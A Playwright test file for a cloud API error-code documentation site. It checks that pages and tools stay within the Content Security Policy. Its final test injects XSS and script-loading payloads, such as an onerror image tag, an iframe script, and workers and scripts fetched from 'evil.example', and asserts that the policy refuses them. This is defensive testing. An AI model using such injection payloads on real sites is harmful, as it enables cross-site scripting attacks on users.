import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { BrowserContextOptions, Page } from 'playwright-core';
import { redirectPage } from '../../src/redirects/redirectPage.ts';
import { createSite } from '../../src/site.ts';
import { openPage, settled } from '../support/browser.ts';
import { ask, openDialog } from '../support/lookup.ts';
import { pageTypes } from '../support/pageTypes.ts';
import { reportsOf } from '../support/reports.ts';
import { useSite } from '../support/useSite.ts';

const site = useSite();
const code = '/errors/AuthFailure.SignatureFailure/';
const clipboard = { permissions: ['clipboard-read', 'clipboard-write'] };

/** A page whose reports are collected from its first address on, which is opened after that. */
async function openReported(path: string, options: BrowserContextOptions = {}) {
  const { page, faults } = await openPage(site.browser, site.origin, '/robots.txt', options);
  const reports = await reportsOf(page);
  await page.goto(site.origin + path);
  return { page, faults, reports };
}

test('no page does anything against its policy', async () => {
  const { page, faults, reports } = await openReported('/');
  for (const path of pageTypes) {
    await page.goto(site.origin + path);
    await settled(page);
    assert.deepEqual(reports, [], path);
  }
  assert.deepEqual(
    faults.filter((fault) => !fault.includes('404')),
    [],
  );
});

/** Every tool, by what is done with it; its page stands first. */
const tools: Readonly<Record<string, readonly [path: string, use: (page: Page) => Promise<unknown>]>> = {
  'the look-up of words, in a worker': [
    '/lookup/',
    async (page) => {
      const { hrefs } = await ask(page, page.locator('main lookup-box input'), 'CSV');
      assert.ok(hrefs.includes('/api/'), hrefs.join(' '));
      assert.ok(page.workers().some((worker) => /\/pagefind\/\w+\/pagefind-worker\.js$/.test(worker.url())));
    },
  ],
  'the look-up of a pasted error': [
    '/',
    async (page) => {
      const pasted = '{"Response":{"Error":{"Code":"AuthFailure.SignatureFailure","Message":"no"},"RequestId":"a-b"}}';
      const { codes } = await ask(page, await openDialog(page), pasted);
      assert.equal(codes[0], 'AuthFailure.SignatureFailure');
      await page.keyboard.press('Enter');
      await page.locator('.call').waitFor();
    },
  ],
  'the signature checker': [
    '/guides/signing/',
    async (page) => {
      for (const name of ['host', 'timestamp', 'secretId', 'secretKey']) {
        await page.locator(`[data-field=${name}]`).fill(name === 'timestamp' ? '1551113065' : 'a');
      }
      await page.getByRole('button', { name: '计算并核对' }).click();
      await page.locator('[data-step=signature]').waitFor();
    },
  ],
  'the tabs of a guide': ['/guides/signing/', (page) => page.getByRole('tab').nth(1).click()],
  'the clock check': [
    '/guides/clock-skew/',
    async (page) => {
      await page.getByRole('button', { name: '填入当前时间' }).click();
      await page.getByText('五分钟之内').first().waitFor();
    },
  ],
  'the copy of a code and of a text for a ticket in another language': [
    code,
    async (page) => {
      await page.getByRole('button', { name: '复制错误码' }).click();
      await page.getByRole('button', { name: '复制到工单' }).click();
      await page.getByRole('button', { name: 'English reply' }).click();
      await page.getByRole('status').getByText('English reply').waitFor({ state: 'attached' });
      assert.match(await page.evaluate(() => navigator.clipboard.readText()), /^Hello,/);
    },
  ],
  'the call of an address': [`${code}#requestId=1&message=a`, (page) => page.locator('.call').waitFor()],
  'the filter of a list': ['/errors/', (page) => page.locator('#filter').fill('cmq')],
  'the theme': ['/errors/', (page) => page.getByRole('button', { name: '切换明暗主题' }).click()],
  'the link to another language': [code, (page) => page.getByRole('link', { name: 'English' }).click()],
  'the offer of a language': [
    `/en${code}`,
    async (page) => {
      await page.locator('.language-offer a').click();
      await page.waitForURL(site.origin + code);
    },
  ],
  'a missing page': ['/en/errors/AuthFailur/', (page) => page.locator('missing-page [data-result]').first().waitFor()],
  'an address that is nearly right': ['/errors/authfailure/signaturefailure', (page) => page.waitForURL(`**${code}`)],
  'a print': [code, (page) => page.pdf()],
};

for (const [name, [path, use]] of Object.entries(tools)) {
  test(`${name}: works, and does nothing against the policy`, async () => {
    const { page, faults, reports } = await openReported(path, clipboard);
    await use(page);
    await settled(page);
    assert.deepEqual(reports, []);
    assert.deepEqual(
      faults.filter((fault) => !fault.includes('404')),
      [],
    );
    await page.context().close();
  });
}

test('a page that has moved leads on under the same policy', async () => {
  const settings = { origin: site.origin, base: '/', repository: '', hasPolicy: true };
  const moved = redirectPage({ from: '/errors/Old/', to: code }, createSite(settings, 'zh-cn'));
  const { page, reports } = await openReported('/');
  await page.route('**/errors/Old/*', (route) => route.fulfill({ contentType: 'text/html', body: moved }));
  await page.goto(`${site.origin}/errors/Old/?a=1#requestId=1`);
  await page.waitForURL(`${site.origin}${code}?a=1#requestId=1`);
  assert.deepEqual(reports, []);
});

test('what a page is made to do against its policy is refused, and reported', async () => {
  for (const hasSearched of [false, true]) {
    const { page, reports } = await openReported('/lookup/');
    if (hasSearched) await ask(page, page.locator('main lookup-box input'), '北京时间');
    const ran = await page.evaluate(async () => {
      // While a call of the debugger runs, code from strings is allowed.
      await new Promise((resolve) => setTimeout(resolve));
      const attempts: Record<string, () => unknown> = {
        markup: () => (document.createElement('p').innerHTML = '<img src=x onerror=alert(1)>'),
        parser: () => new DOMParser().parseFromString('<b>', 'text/html'),
        frame: () => (document.createElement('iframe').srcdoc = '<script>alert(1)</script>'),
        script: () => (document.createElement('script').src = '/site.js'.replace('/', '//evil.example/')),
        text: () => (document.createElement('script').textContent = 'alert(1)'),
        'worker of another site': () => new Worker('//evil.example/pagefind/pagefind-worker.js'),
        'worker of the page': () => new Worker('blob:https://evil.example/1'),
        data: () => new Worker('data:text/javascript,alert(1)'),
        code: () => Reflect.construct(Function, ['return 1']),
      };
      const done = Object.keys(attempts).filter((name) => {
        try {
          attempts[name]?.();
          return true;
        } catch {
          return false;
        }
      });
      const image = Object.assign(new Image(), { src: 'https://evil.example/pixel.png' });
      await new Promise((resolve) => (image.onerror = resolve));
      const script = document.createElement('script');
      script.append('window.__ran = true');
      document.head.append(script);
      await new Promise((resolve) => setTimeout(resolve, 50));
      return [...done, ...('__ran' in window ? ['an inline script'] : [])];
    });
    assert.deepEqual(ran, [], `after a search: ${hasSearched}`);
    assert.ok(reports.length >= 9, reports.join('\n'));
    await page.context().close();
  }
});
